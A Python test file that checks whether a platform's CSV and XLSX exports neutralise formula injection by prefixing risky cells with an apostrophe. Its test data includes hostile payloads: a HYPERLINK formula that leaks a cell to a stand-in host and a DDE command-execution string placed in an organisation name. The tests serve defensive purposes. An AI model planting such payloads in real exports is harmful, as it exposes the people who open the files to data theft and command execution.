"""Every spreadsheet the platform writes is safe to open: a cell that a spreadsheet
would run as a formula is written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from dangke.exports import cell_safe, table_bytes

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_become_text(value):
    assert cell_safe(value) == "'" + value


def test_ordinary_values_are_kept():
    assert cell_safe("王强") == "王强"
    assert cell_safe(-3) == -3
    assert cell_safe(1.5) == 1.5
    assert cell_safe(None) is None


def test_xlsx_read_back_holds_no_formula():
    data = table_bytes([["姓名"], *[[value] for value in HOSTILE]], "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type != "f" for cell in cells)
    # (XLSX keeps line breaks as \n)
    expected = ["'" + value.replace("\r", "\n") for value in HOSTILE]
    assert [cell.value for cell in cells] == expected


def test_csv_read_back_starts_no_cell_with_a_formula_character():
    data = table_bytes([["姓名"], *[[value] for value in HOSTILE]], "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]


def test_a_report_export_neutralises_member_names(client_for, db):
    from tests import factories

    branch = factories.organisation(name="=cmd|' /C calc'!A0")
    factories.member(organisation=branch, username="=HYPERLINK(1)")
    admin = factories.user("boss", is_superuser=True, is_staff=True)
    client = client_for(admin)
    for fmt in ("csv", "xlsx"):
        answer = client.get(
            f"/api/v3/learning/reports?organisation={branch.code}&format={fmt}"
        )
        assert answer.status_code == 200, answer.content
        if fmt == "csv":
            text = answer.content.decode("utf-8-sig")
            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        else:
            sheet = load_workbook(io.BytesIO(answer.content)).active
            cells = [c.value for row in sheet.iter_rows() for c in row if c.value]
            assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), (
                fmt
            )
        texts = [str(cell) for cell in cells]
        assert not any(t.startswith(("=", "+", "@")) for t in texts), texts
        assert "'=HYPERLINK(1)" in texts and "'=cmd|' /C calc'!A0" in texts
